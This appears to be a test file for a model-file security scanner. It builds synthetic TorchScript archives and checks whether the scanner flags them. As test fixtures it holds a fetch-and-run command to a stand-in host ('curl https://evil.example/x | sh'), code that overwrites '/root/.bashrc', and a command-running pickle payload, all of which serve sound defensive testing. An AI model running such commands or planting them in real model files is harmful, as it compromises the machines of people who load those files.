from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.formats.assemble import (
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    SHELL,
    Zip,
    call,
    fetch,
    pickle,
    tensor,
    text,
)
from tests.scan.examine import examine, rules, unexamined
from tests.torch_files import needs_torch

from modelward.core.finding import Verdict

CODE = """class M(Module):
  w : Tensor
  def forward(self: __torch__.M, x: Tensor) -> Tensor:
    {}
    return x
"""


def script(code: str = "y = torch.relu(x)", state: bytes = tensor(), **others: bytes) -> Zip:
    made = fetch("__torch__", "M") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + text("w") + state + b"sb"
    debug = pickle(call("torch.jit._pickle", "build_intlist", EMPTY_LIST))
    archive = Zip().add("m/data.pkl", pickle(made)).add("m/data/0", bytes(16))
    archive.add("m/code/__torch__.py", CODE.replace("{}", code).encode())
    archive.add("m/code/__torch__.py.debug_pkl", debug).add("m/constants.pkl", pickle(EMPTY_TUPLE))
    for name, content in others.items():
        archive.add("m/" + name.replace("__", "/").replace("_", "."), content)
    return archive.add("m/version", b"3\n")


def test_code_that_only_computes_is_clean() -> None:
    report = examine(script().bytes())
    assert report.verdict is Verdict.CLEAN
    assert "TorchScript code" in [entry.format for entry in report.coverage]


def test_code_that_writes_a_file_as_the_model_runs() -> None:
    (finding,) = examine(script("torch.save(x, '/root/.bashrc')").bytes()).findings
    assert (finding.rule, finding.path) == ("harmful-code", "model.bin!m/code/__torch__.py")
    assert finding.message == "TorchScript code writes a file of the machine"
    assert finding.expression == "torch.save(x, '/root/.bashrc')"


def test_operation_of_a_native_library() -> None:
    assert rules(script("y = ops.mylib.secret(x)").bytes()) == ["embedded-code"]


def test_pickle_that_also_runs_a_command() -> None:
    assert "pickle-unsafe-call" in rules(script(state=SHELL).bytes())
    assert "pickle-unsafe-call" in rules(script(constants2_pkl=pickle(SHELL)).bytes())


def test_classes_of_the_archive_are_unknown_outside_of_one() -> None:
    made = fetch("__torch__", "M") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + b"b"
    assert rules(pickle(made)) == ["pickle-unknown-global"]


def test_what_users_put_beside_the_model() -> None:
    assert unexamined(script(extra__producer_txt=b"{{ not a template }}").bytes()) == {}


def test_program_beside_the_model_is_examined_as_such() -> None:
    code = b"import os\nos.system('curl https://evil.example/x | sh')\n"
    assert examine(script(extra__run_py=code).bytes()).verdict is Verdict.MALICIOUS


def test_code_that_cannot_be_read_is_not_clean() -> None:
    assert list(unexamined(script("ops.x.y(((").bytes())) == ["model.bin!m/code/__torch__.py"]


@given(st.lists(st.tuples(st.integers(0, 3000), st.integers(0, 255)), max_size=6))
def test_damage_gives_a_report(changes: list[tuple[int, int]]) -> None:
    file = bytearray(script("y = ops.aten.relu(x)").bytes())
    for at, value in changes:
        file[at % len(file)] = value
    assert examine(bytes(file)).coverage


def modules() -> dict[str, Any]:
    import torch

    class Scripted(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.names = ["a", "b"]
            self.norm = torch.nn.BatchNorm1d(3)
            self.register_buffer("b", torch.arange(3.0))

        def forward(self, x: torch.Tensor, n: int = 2) -> tuple[torch.Tensor, list[str]]:
            for index in range(n):
                x = torch.relu(x) + self.b if index > 0 else x
            return self.norm(x), self.names

    traced = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LSTM(3, 3)).eval()
    return {
        "scripted": torch.jit.script(Scripted().eval()),
        "traced": torch.jit.trace(traced, torch.rand(2, 4)),
        "frozen": torch.jit.freeze(torch.jit.script(torch.nn.Linear(4, 3).eval())),
        "quantized": torch.jit.script(
            torch.ao.quantization.quantize_dynamic(
                torch.nn.Sequential(torch.nn.Linear(4, 3)), dtype=torch.qint8
            )
        ),
    }


@needs_torch
@pytest.mark.filterwarnings("ignore")
def test_what_torch_writes_is_clean(tmp_path: Path) -> None:
    import torch

    for name, module in modules().items():
        torch.jit.save(module, str(tmp_path / "m.pt"), _extra_files={"config.yaml": "a: 1"})
        module._save_for_lite_interpreter(str(tmp_path / "m.ptl"))
        for path in (tmp_path / "m.pt", tmp_path / "m.ptl"):
            report = examine(path.read_bytes())
            assert report.verdict is Verdict.CLEAN, (name, report.findings, unexamined(path.read_bytes()))
